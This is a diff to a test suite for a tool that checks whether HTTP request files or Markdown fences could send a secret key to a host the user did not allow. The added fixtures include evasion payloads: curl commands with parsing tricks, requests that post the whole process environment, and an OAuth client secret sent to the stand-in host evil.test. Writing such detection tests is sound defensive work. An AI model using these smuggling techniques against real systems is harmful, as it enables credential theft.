@@ -39,6 +39,8 @@ describe('A request file can’t send a key to a host that the user didn’t all
 		'an allowed host with its default port': request('https://good.test:443/x'),
 		'an allowed host with user information': request('https://user:password@good.test/x'),
 		'an allowed host without a path': request('https://good.test'),
+		'an allowed host with an HTTP version': request('https://good.test HTTP/1.1'),
+		'an allowed host in a variable with dots': `@api.host = good.test\n@api.port = 443\n\n###\n${request('https://good.test/{{api.port}}')}`,
 		'an allowed host over WebSocket': request('wss://good.test/x').replace('GET', 'WS'),
 		'an allowed host in a variable': `@host = good.test\n\n###\n${request('https://{{host}}/x')}`,
 		'an allowed URL in a variable of the request': `@base = https://good.test/\n${request('{{base}}x')}`,
@@ -88,13 +90,24 @@ describe('A request file can’t send a key to a host that the user didn’t all
 		'with letters that look like loopback': [request('https://lоcalhost/x'), 'lоcalhost (xn--lcalhost-nbh)'],
 		'with a punycode name': [request('https://xn--bcher-kva.test:8443/x'), 'bücher.test:8443 (xn--bcher-kva.test)'],
 		'in the next line': [request('https://good.test').replace('\n', '\n&a=b@evil.test/\n'), 'evil.test'],
+		'in a cURL command after the value of an option': [`curl -H "-H" https://evil.test/ -s https://good.test/ -H "${KEY}"\n`, 'evil.test'],
+		'in a cURL command after a method': [`curl -XPATCH https://evil.test/ -s https://good.test/ -H "${KEY}"\n`, 'evil.test'],
+		'in a cURL command between escaped quotes': [
+			`curl -H "X: \\" https://evil.test/ \\"" -s https://good.test/ -H "${KEY}"\n`,
+			'evil.test',
+		],
+		'in a cURL command after a line break, which joins two words': [
+			`curl -H "X: x"\n-H https://evil.test/ -s https://good.test/ -H "${KEY}"\n`,
+			'evil.test',
+		],
+		'in a cURL option without a space': [`curl -L"https://evil.test/" -s https://good.test/ -H "${KEY}"\n`, 'evil.test'],
+		'in front of an HTTP version': [request('https://evil.test HTTP/@good.test/'), 'evil.test'],
 		'in a line that a variable turns into part of the URL': [
 			`@more = &a=b@evil.test/\n\n###\nGET https://good.test\n{{more}}\n${KEY}\n`,
 			'evil.test',
 		],
 		'in a line after the headers': [request('https://good.test', '&a=b@evil.test/'), 'evil.test'],
 		'in a variable that REST Client unescapes': [`@host = ev\\il.test\n\n###\n${request('https://{{host}}/x')}`, 'evil.test'],
-		'in a header with a line break from a variable': [`@a = 1\\nHost: evil.test:443\n\n###\nGET /x\nA: {{a}}\n${KEY}\n`, 'evil.test'],
 		'in the header of a path': [request('/x', 'Host: evil.test:443'), 'evil.test'],
 		'in the variable that is the host of a path': [`@host = https://evil.test\n\n###\n${request('/x')}`, 'evil.test'],
 		'as a proxy': [`# @proxy https://evil.test:8443\n${request('https://good.test/x')}`, 'evil.test:8443'],
@@ -103,6 +116,15 @@ describe('A request file can’t send a key to a host that the user didn’t all
 			`# @name first\n${request('https://evil.test/')}\n###\n# @ref first\n${request('https://good.test/x')}`,
 			'evil.test',
 		],
+		'by a name without a space in front of it': [
+			`${request('https://good.test/')}\n###\nGET https://evil.test/?k=${REFERENCE.replace(' ', '')}\n`,
+			'evil.test',
+		],
+		'by a name in lower case, which Windows ignores': [
+			`${request('https://good.test/')}\n###\nGET https://evil.test/?k={{$processEnv ${getVariableName(TOKEN.token.id).toLowerCase()}}}\n`,
+			'evil.test',
+		],
+		'by the whole environment': [`${request('https://good.test/')}\n###\nPOST https://evil.test/\n\n{{process.env}}\n`, 'evil.test'],
 		'in a URL whose scheme contains a variable': [`@t = t\n\n###\nh{{t}}tps://evil.test/x\n${KEY}\n`, 'evil.test'],
 		'in a URL above a request, which REST Client sends': [
 			`@t = t\n\n###\nh{{t}}tps://evil.test/x\n${KEY}\n\nGET https://good.test/\n`,
@@ -118,6 +140,19 @@ describe('A request file can’t send a key to a host that the user didn’t all
 		it(`${title}, and the user sees the host`, () => {
 			assert.equal(check(text), host);
 			assert.equal(check(`Text\n\n\`\`\`http\n${text}\`\`\`\n`, 'markdown'), host);
+		});
+	}
+
+	const markdown: Record<string, string> = {
+		'in a fence, which REST Client sends as one request': `\`\`\`http\nGET https://evil.test/\nX: y\n\n###\n${request('https://good.test/')}\`\`\`\n`,
+		'in a fence that is text of another one': `~~~text\n\`\`\`http\n${request('https://evil.test/')}\`\`\`\n~~~\n`,
+		'in a fence below one that clients close later': `\`\`\`http\n\`\`\`\`\n${request('https://evil.test/')}\`\`\`\n`,
+		'in a fence below one that isn’t closed': `\`\`\`\`js\n\`\`\`http\n${request('https://evil.test/')}\`\`\`\n`,
+	};
+	for (const [title, text] of Object.entries(markdown)) {
+		it(`${title} in Markdown`, () => {
+			const visible = `\`\`\`http\n${request('https://good.test/')}\`\`\`\n\n${text}`;
+			assert.equal(check(visible, 'markdown'), 'evil.test');
 		});
 	}
 
@@ -151,6 +186,10 @@ describe('A request file can’t send a key to a host that the user didn’t all
 		'an assignment in a comment that is evaluated': `# @disabled (request.url = "https://evil.test") === 1\n${request('https://good.test/x')}`,
 		'a variable that uses another before the request defines it': `@url = {{base}}/x\n\n###\n@base = https://good.test\n${request('{{url}}')}`,
 		'a variable that uses another before it is defined': `@url = {{base}}/x\n@base = https://good.test\n\n###\n${request('{{url}}')}`,
+		'a script that reads the environment': request('https://good.test/', '', '{{', 'const { env } = require("process");', '}}'),
+		'a script that puts the name of the environment together': request('https://good.test/', '', '{{', 'root["pro" + "cess"].env', '}}'),
+		'a variable that is sent to get an OAuth token': `@oauth2_tokenEndpoint = https://evil.test/\n@oauth2_clientSecret = ${REFERENCE}\n\n###\nGET https://good.test/\nAuthorization: OAuth2 client_credentials\n`,
+		'OAuth in a variable': `@a = oauth\n@oauth2_clientSecret = ${REFERENCE}\n\n###\nGET https://good.test/\nAuthorization: {{a}}2 client_credentials\n`,
 		'another file': `# @import ./other.http\n\n###\n${request('https://good.test/x')}`,
 		'a path without a host': request('/x'),
 		'a path with two hosts': request('/x', 'Host: localhost,', 'Host: .evil.test'),
@@ -165,6 +204,26 @@ describe('A request file can’t send a key to a host that the user didn’t all
 		it(`through ${title}, because the host isn’t known`, () => {
 			assert.equal(check(text), 'unknown');
 			assert.equal(check(text, 'requestFile', TOKEN, { ...RULES, isFileAllowed: true }), 'allowed');
+		});
+	}
+
+	const unknownToRestClient: Record<string, string> = {
+		'a variable whose name encodes another one': `@x = evil.test\n@%x = good.test\n\n###\n${request('https://{{%x}}/x')}`,
+		'a variable whose name is a pattern of another one': `@. = evil.test/\n@x = good.test\n@u = https://{{x}}/{{.}}\n\n###\n${request('{{u}}')}`,
+		'a variable whose dot stands for any character':
+			'@a.b = evil.test/\n@a_b = good.test\n@u = https://{{a_b}}/{{a.b}}\n\n###\n' + request('{{u}}'),
+		'a variable that inserts other text than its own': `@p = $\`\n@u = https://{{p}}@good.test/\n\n###\n${request('{{u}}')}`,
+		'a variable that only seems to complete a placeholder': `@x = good.test/\n@a = {\n\n###\n${request('https://{{a}}{x}}.evil.test/')}`,
+		'a header with a line break from a variable': `@a = 1\\nHost: evil.test:443\n\n###\nGET /x\nA: {{a}}\n${KEY}\n`,
+		'headers that end at a line break from a variable, except on Windows': `@a = 1\\n\\n\n\n###\nGET /x\nHost: localhost\nA: {{a}}\nHost: @evil.test:80\n${KEY}\n`,
+		'a date whose format is any text': request('/x', `X: {{$datetime '[x]'}}`, 'Host: good.test:443'),
+	};
+	for (const [title, text] of Object.entries(unknownToRestClient)) {
+		it(`through ${title}, although only REST Client is installed`, () => {
+			const destinations = findRequestUses(text, 'requestFile').requests.flatMap(
+				({ destinationsByClient }) => destinationsByClient.restClient,
+			);
+			assert.equal(checkHosts(destinations, TOKEN, RULES).kind, 'unknown');
 		});
 	}
 
